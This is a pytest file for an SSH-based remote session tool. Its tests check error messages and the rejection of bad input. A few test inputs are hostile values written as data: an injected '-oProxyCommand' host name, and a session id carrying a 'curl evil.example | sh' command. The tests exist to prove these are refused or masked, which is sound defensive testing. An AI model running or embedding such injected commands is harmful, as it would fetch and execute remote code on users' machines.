"""Errors that no other test provokes, each for real. docs/errors.md lists which test provokes which."""

from __future__ import annotations

import asyncio
import os
import shlex
import socket
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import ExitStack, asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import NoReturn

import pytest
from tests.support.hosts.scripted_host import ScriptedHost, no_calls, session_on
from tests.support.machine.programs import shell_script
from tests.support.model.fake_model import FakeModel
from tests.support.network.link_peer import link_pair
from tests.support.person.laptop import Laptop, make_laptop
from tests.support.person.terminal import terminal

from ccb.deploy import bootstrap
from ccb.deploy.bootstrap_command import CANDIDATES
from ccb.deploy.bundle import Bundle
from ccb.local.command_line.exit_codes import ExitCode
from ccb.local.doctor import host_checks
from ccb.local.doctor.doctor_findings import FindingState
from ccb.local.headless import stdin_input as headless_input
from ccb.local.session import outbox
from ccb.local.session.dialing import AttachOptions
from ccb.local.session.remote_session import RemoteSession
from ccb.tunnel.errors import CcbError, ConfigError, ConnectionLost, DeployError, ProtocolError, Unreachable, UsageError
from ccb.tunnel.link.link import Link, new_nonce
from ccb.tunnel.link.worker_refusals import refusal_error
from ccb.tunnel.openssh import openssh_transport as openssh
from ccb.tunnel.providers.anthropic import anthropic_endpoint
from ccb.tunnel.providers.http_client import tls_context
from ccb.tunnel.ssh.carrier import Carrier, open_socket
from ccb.tunnel.ssh_config import config_files as ssh_config
from ccb.tunnel.ssh_config.config_files import resolve
from ccb.tunnel.ssh_config.host_config import host_config
from ccb.tunnel.ssh_config.ssh_target import SshTarget
from ccb.tunnel.transports.command_transport import LocalTransport
from ccb.tunnel.transports.login_failures import ssh_failure
from ccb.tunnel.transports.login_prompts import NobodyToAsk
from ccb.tunnel.wire.frames import Attached, Event, Refused, Snapshot


@pytest.fixture
def laptop(tmp_path: Path, fake_model: FakeModel) -> Laptop:
    return make_laptop(tmp_path, fake_model.url)


@asynccontextmanager
async def instead_of_the_worker(command: str, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[LocalTransport]:
    """A host whose shell does something else with our command line; `{marker}` is the marker of the connection."""
    monkeypatch.setattr(bootstrap, "bootstrap_command", lambda marker, *_, **__: command.replace("{marker}", marker))
    transport = LocalTransport()
    try:
        yield transport
    finally:
        transport.abort()
        await transport.close()


async def test_a_dumb_terminal_gets_lines(laptop: Laptop) -> None:
    argv = ["env", "TERM=dumb", sys.executable, "-m", "ccb", str(laptop.home)]
    async with terminal(argv, laptop.env, str(laptop.home)) as running:
        await running.shows("Type a prompt; /help says more.")
        assert b"\x1b" not in running.written


async def test_a_command_that_cannot_ask(laptop: Laptop) -> None:
    assert (await laptop.run(["clean", "--local"])).refuses(2, "removes every session there")


async def test_a_shell_without_a_terminal(laptop: Laptop) -> None:
    assert (await laptop.run(["shell", "--local"])).refuses(2, "needs a terminal")


async def test_a_message_that_nobody_wrote(laptop: Laptop) -> None:
    async with laptop.on_terminal("send", "--local", "3f2a9c1e") as terminal:
        await terminal.shows("there is no message")


async def test_a_flood_on_stdin_is_refused(laptop: Laptop) -> None:
    flood = b"x" * (33 * 1024 * 1024)
    async with laptop.start([str(laptop.home), "-p"]) as running:
        assert running.process.stdin is not None
        try:
            running.process.stdin.write(flood)
            await running.process.stdin.drain()
            running.process.stdin.close()
        except ConnectionError:
            pass
        assert running.process.stderr is not None
        said = (await asyncio.wait_for(running.process.stderr.read(), 30)).decode()
    assert "MB were piped in" in said


@pytest.mark.parametrize(
    ("environ", "says"),
    [
        ({"ANTHROPIC_BASE_URL": "http://[::1"}, "is not a URL"),
        ({"ANTHROPIC_BASE_URL": "ftp://host"}, "is not an http or https URL"),
        ({"ANTHROPIC_BASE_URL": "https://me@host"}, "must not have a user"),
        ({"ANTHROPIC_BASE_URL": "http://example.org"}, "without TLS"),
        ({"HTTPS_PROXY": "socks5://host:1"}, "is not an http or https proxy"),
    ],
)
def test_a_provider_that_makes_no_sense(environ: dict[str, str], says: str) -> None:
    with pytest.raises(ConfigError) as caught:
        anthropic_endpoint(environ)
    assert says in caught.value.what


def test_certificates_that_are_none(tmp_path: Path) -> None:
    (tmp_path / "ca.pem").write_text("nothing\n", encoding="ascii")
    with pytest.raises(ConfigError, match="is not a file of CA certificates"):
        tls_context({"SSL_CERT_FILE": str(tmp_path / "ca.pem")})


@pytest.mark.parametrize("host", ["-oProxyCommand=touch x", "two words", "line\nfeed", ""])
def test_a_host_or_a_user_that_is_none(host: str) -> None:
    with pytest.raises(UsageError, match="is not a host name"):
        SshTarget(host)
    with pytest.raises(UsageError, match="is not a user name"):
        SshTarget("host", "-l root")


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("head -c 3000000 /dev/zero", "printed more than 2 MB"),
        ("printf '\\n%s not json\\n' {marker}; sleep 60", "was garbled on the way"),
        ("printf '\\n%s ' {marker}; head -c 100000 /dev/zero; sleep 60", "has no end"),
        ("sleep 60", "did not start the worker within"),
        ("exit 5", "did not run our command (exit code 5)"),
        ("kill -9 $$", "closed the connection before the worker started"),
        ("echo 'No space left on device' >&2; exit 6", "did not run our command (exit code 6)"),
        ("echo 'No space left on device' >&2; sleep 60", "did not start the worker within"),
    ],
)
async def test_a_login_shell_that_does_something_else(command: str, says: str, monkeypatch: pytest.MonkeyPatch) -> None:
    deadline_s = 3 if "within" in says else 60
    async with instead_of_the_worker(command, monkeypatch) as transport:
        with pytest.raises(CcbError) as caught:
            await bootstrap.launch(transport, {}, Bundle.of(b"x"), candidates=CANDIDATES, deadline_s=deadline_s)
    assert says in caught.value.what and caught.value.do


async def test_frames_that_tell_of_what_cannot_be() -> None:
    for frames, says in (
        ([Event(2, 1, "message", {})], "are missing"),
        ([Event(1, 1, "message", {}), Snapshot(1, 0, {})], "events that have already arrived"),
    ):
        async with link_pair() as (pipe, peer), Link(pipe) as link:
            await peer.hello()
            await link.hello()
            await link.attach(have=0, nonce=new_nonce(), options={}, calls=no_calls)
            await peer.send(Attached(link.epoch, "driver", 0, ""), *frames)
            with pytest.raises(ProtocolError) as caught:
                async for _ in link.frames():
                    pass
        assert says in caught.value.what


async def test_a_worker_that_ends_before_its_hello() -> None:
    for said in ("", "Traceback: it broke"):
        async with link_pair() as (pipe, peer), Link(pipe, host="devbox") as link:
            pipe.stderr = said
            peer.hang_up()
            with pytest.raises(CcbError, match="ended before its hello") as caught:
                await link.hello()
            assert isinstance(caught.value, DeployError) is bool(said)


def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None:
    for host, named, session, shown in (
        ("devbox", "devbox", "5e55", "5e55"),
        ("this machine", "--local", "5e55", "5e55"),
        ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
        ("devbox", "devbox", "5" * 100, "SESSION"),
        ("devbox", "devbox", None, "SESSION"),
    ):
        refused = Refused(
            "waits_for_answer", "this session waits for an answer about Ba\x1b[31msh", {"session": session}
        )
        error = refusal_error(refused, host)
        assert "\x1b" not in str(error) and error.exit_code is ExitCode.PERMISSION_DENIED
        assert f"`ccb attach {named} {shown}`" in error.do and f"`ccb stop {named} {shown}`" in error.do


def test_a_host_without_the_cage_of_a_mode_says_why() -> None:
    refused = Refused("no_sandbox", "this host cannot", {"why": "user name\x1b[31mspaces are forbidden" + "x" * 900})
    error = refusal_error(refused, "devbox")
    assert error.what == "devbox cannot make the cage of --sandbox workspace" and "Leave out" in error.do
    assert "spaces are forbidden" in error.evidence and "\x1b" not in str(error) and len(error.evidence) <= 500
    assert error.exit_code is ExitCode.USAGE
    about_place = refusal_error(Refused("no_sandbox", "here", {"why": "it holds a home", "place": True}), "devbox")
    assert "project" in about_place.do and "administrator" not in about_place.do


async def test_earlier_events_without_a_connection_or_an_answer() -> None:
    host = ScriptedHost()
    async with session_on(host, AttachOptions(patience=60)) as (session, peer):
        host.hanging = True
        peer.hang_up()
        async with asyncio.timeout(60):
            while session.state.value == "connected":
                await asyncio.sleep(0.01)
        with pytest.raises(ConnectionLost, match="cannot be asked without a connection"):
            await session.earlier(10)


async def test_a_host_that_takes_longer_than_the_settings_allow(laptop: Laptop) -> None:
    laptop.settings(connectTimeoutSeconds=0.5)
    with socket.create_server(("127.0.0.1", 0)) as silent:
        done = await laptop.run(["ssh", "me@127.0.0.1:", "-P", str(silent.getsockname()[1]), "-p", "hi"])
    assert done.refuses(69, "no connection to me@127.0.0.1 within 0.5 s")


HAVE = """printf '\\n%s {"have": true, "exe": "/python"}\\n' {marker}; """
BYE = """echo '{"t": "bye", "reason": ""}'"""


def reported(body: str) -> str:
    return "echo " + shlex.quote(f'{{"t": "report", "kind": {body}}}')


def repeated(body: str) -> str:
    return f"for i in $(seq 30); do {reported(body)}; done"


@pytest.mark.parametrize(
    ("answer", "part"),
    [
        ("echo nonsense", "sent bytes that are not a frame"),
        (BYE, "sent a frame that is not a report of its checks"),
        (repeated('"check", "body": {"name": "x", "state": "ok"}'), "too many reports"),
        ("sleep 60", "went silent in the middle of its checks"),
        (
            reported('"check", "body": {"name": "home", "state": "ok"}') + "; sleep 60",
            "The last check that it reported: home.",
        ),
    ],
)
async def test_a_host_whose_checks_are_odd(answer: str, part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(host_checks, "_MAX_CHECKS", 20)
    monkeypatch.setattr(host_checks, "_ANSWER_S", 1.0)
    async with instead_of_the_worker(HAVE + answer, monkeypatch) as transport:
        found = [finding async for finding in host_checks.host_findings(transport, Bundle.of(b"x"))]
        transport.abort()
    assert found[-1].state is FindingState.BLOCK and part in found[-1].found


async def test_a_worker_that_does_not_read() -> None:
    transport = LocalTransport()
    try:
        pipe = await transport.execute("exec <&-; exec sleep 60")
        with pytest.raises(ConnectionLost, match="connection to this machine was lost"):
            while True:
                await pipe.write(b"x" * 65536)
    finally:
        transport.abort()
        await transport.close()


async def test_a_name_that_takes_too_long(tmp_path: Path) -> None:
    config = await resolve(SshTarget("name.invalid", options=("ConnectTimeout=1",)))
    with pytest.raises(Unreachable, match="did not resolve in time"):
        await open_socket(replace(config, route=replace(config.route, connect_timeout_s=1e-9)))


async def test_an_ssh_that_does_not_answer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shell_script(tmp_path / "ssh", "sleep 60; true")
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    monkeypatch.setattr(ssh_config, "_RESOLVE_DEADLINE_S", 0.5)
    with pytest.raises(ConfigError, match="`ssh -G` did not answer"):
        await resolve(SshTarget("host"))
    with pytest.raises(ConfigError, match="`ssh -G` did not answer"):
        await openssh.connect(SshTarget("host"), NobodyToAsk(), env=dict(os.environ))


async def test_a_port_that_is_none_without_openssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setattr(ssh_config, "CONFIG_FILES", ())
    with pytest.raises(ConfigError, match="ssh configuration cannot be read"):
        await resolve(SshTarget("host", options=("Port=abc",)))
    with pytest.raises(UsageError, match="is not a port"):
        host_config({"port": ["abc"]}, {}, SshTarget("host"))


def test_an_ssh_that_fails_without_a_known_reason() -> None:
    error = ssh_failure("host", 255, "something nobody has heard of")
    assert isinstance(error, Unreachable) and "no SSH connection to host" in error.what


async def test_a_port_that_neither_accepts_nor_refuses() -> None:
    """A listener whose queue is full is silent, as a firewall is."""
    with ExitStack() as stack:
        listener = stack.enter_context(socket.socket())
        listener.bind(("127.0.0.1", 0))
        listener.listen(0)
        address = listener.getsockname()
        for _ in range(8):
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(address)
        config = await resolve(SshTarget("127.0.0.1", port=address[1]))
        with pytest.raises(Unreachable, match="did not answer in"):
            await open_socket(replace(config, route=replace(config.route, connect_timeout_s=0.5)))


async def test_earlier_events_that_do_not_come(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(outbox, "CLIENT_DEADLINE_S", 0.2)
    async with session_on(ScriptedHost(), AttachOptions(patience=60)) as (attached, _):
        with pytest.raises(ConnectionLost, match="did not send the earlier events"):
            await attached.earlier(10)


async def test_a_line_on_stdin_without_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(headless_input, "MAX_INPUT_LINE", 1000)
    reading, writing = os.pipe()
    try:
        os.write(writing, b"x" * 2000)
        os.close(writing)
        with pytest.raises(headless_input.BadInput, match="too long"):
            async for _ in headless_input.read_messages(reading):
                pass
    finally:
        os.close(reading)


async def test_a_command_that_cannot_be_started(tmp_path: Path) -> None:
    (tmp_path / "broken").write_text("no program", encoding="ascii")
    (tmp_path / "broken").chmod(0o755)
    laptop = make_laptop(tmp_path, "http://127.0.0.1:1")
    done = await laptop.run(["ssh", "--transport", str(tmp_path / "broken"), "/", "-p", "hi"])
    assert done.refuses(2, "cannot be started")


async def test_a_proxy_command_that_the_system_cannot_start() -> None:
    config = await resolve(SshTarget("host"))
    stream = Carrier(
        replace(config, route=replace(config.route, proxy_command="true " + "x" * 3_000_000)), NobodyToAsk()
    )
    with pytest.raises(Unreachable, match="the ProxyCommand cannot be started"):
        await stream.open()
    await stream.close()


async def test_a_machine_without_a_place_for_the_sockets_of_ssh(tmp_path: Path) -> None:
    """In a mount namespace of its own, so that /tmp is read-only even for root."""
    laptop = make_laptop(tmp_path, "http://127.0.0.1:1")
    program = shell_script(
        tmp_path / "ccb",
        "exec unshare --mount sh -c 'for d in /tmp /var/tmp /usr/tmp; do [ ! -d $d ] || "
        "(mount --bind $d $d && mount -o remount,bind,ro $d) || exit 99; done; "
        f'cd /proc; exec "$@"\' sh {sys.executable} -m ccb "$@"',
    )
    env = {**laptop.env, "XDG_RUNTIME_DIR": "", "HOME": "/proc"}
    words = [str(program), "ssh", "--transport", "ssh", "nobody@127.0.0.1:/", "-p", "hi"]
    done = await asyncio.to_thread(subprocess.run, words, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 78, done.stderr
    said = "there is no directory for the sockets of ssh", "-> Make /tmp or XDG_RUNTIME_DIR writable."
    assert all(each in done.stderr for each in said)


async def test_a_bug_ends_the_session_with_a_word_and_does_not_hang_it() -> None:
    def dial(*_: object) -> NoReturn:
        raise ZeroDivisionError

    with pytest.raises(CcbError) as caught:
        async with asyncio.timeout(30), RemoteSession(dial):
            pass
    assert (caught.value.what, caught.value.evidence) == ("reading the session failed", "ZeroDivisionError")
    assert "report it" in caught.value.do
